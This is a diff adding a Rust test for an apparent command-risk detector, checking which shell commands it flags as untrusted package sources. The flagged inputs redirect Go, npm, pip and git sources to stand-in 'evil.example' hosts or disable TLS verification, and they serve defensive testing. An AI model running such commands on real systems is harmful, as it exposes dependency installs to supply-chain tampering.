@@ -1004,3 +1004,36 @@ fn git_refspecs_are_not_destinations() {
         ["build.example"]
     );
 }
+
+/// Where packages come from, as any tool's settings say: a source set to a
+/// host that is no registry's own, or verification switched off.
+#[test]
+fn package_sources_redirected_or_unverified() {
+    for command in [
+        "go env -w GOPROXY=https://proxy.evil.example,direct",
+        r#"git config --global url."https://evil.example/".insteadOf https://github.com/"#,
+        "export npm_config_registry=https://registry.evil.example/",
+        "docker run -e PIP_INDEX_URL=https://pypi.evil.example/simple python:3 pip install x",
+        "git config --global http.sslVerify false",
+        "export NODE_TLS_REJECT_UNAUTHORIZED=0",
+        "GIT_SSL_NO_VERIFY=1 git clone https://git.example.org/acme/app.git",
+        "conda config --set ssl_verify false",
+    ] {
+        assert_risk(command, UntrustedPackageSource);
+    }
+    for command in [
+        r#"git config --global url."git@github.com:".insteadOf https://github.com/"#,
+        "npm config set registry https://registry.npmjs.org/",
+        "export GOPROXY=https://proxy.golang.org,direct",
+        "git config --global http.sslVerify true",
+        "export REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt",
+        "curl -d channel=C1 -d text=done https://slack.com/api/chat.postMessage",
+        "git commit --no-verify -m wip",
+        "go env -w GOFLAGS=-mod=mod",
+    ] {
+        assert!(
+            !analyze(command, &CTX).has(UntrustedPackageSource),
+            "{command:?}"
+        );
+    }
+}
